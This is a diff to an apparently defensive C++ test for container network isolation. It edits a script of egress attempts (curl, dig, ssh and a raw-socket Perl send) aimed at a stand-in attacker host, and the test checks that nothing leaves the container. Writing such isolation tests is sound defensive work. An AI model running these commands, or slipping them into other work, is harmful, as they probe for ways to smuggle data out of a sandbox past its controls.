@@ -45,7 +45,7 @@ Devcontainer* working() {
 
 /// What a program in the container may try without any privilege.
 const std::string kAttacks = "a=" + kAttacker + R"(
-try() { timeout 3 "$@" >/dev/null 2>&1; }
+try() { timeout 3 "$@" >/dev/null 2>&1 & }
 try curl -sk "https://$a/"
 try curl -s "http://$a/" -H 'Host: attacker.example'
 try curl -sk --resolve "attacker.example:443:$a" https://attacker.example/
@@ -58,7 +58,7 @@ try dig +time=1 +tries=1 sneaked.attacker.example "@$a"
 try dig +time=1 +tries=1 sneaked.attacker.example TXT
 try ssh -o BatchMode=yes -o ConnectTimeout=2 "git@$a"
 try perl -e 'use Socket; socket(S, AF_INET, SOCK_RAW, 1) and send(S, "sneaked", 0, sockaddr_in(0, inet_aton($ARGV[0])))' "$a"
-true
+wait
 )";
 
 bool nothing_leaves(const Devcontainer& container) {
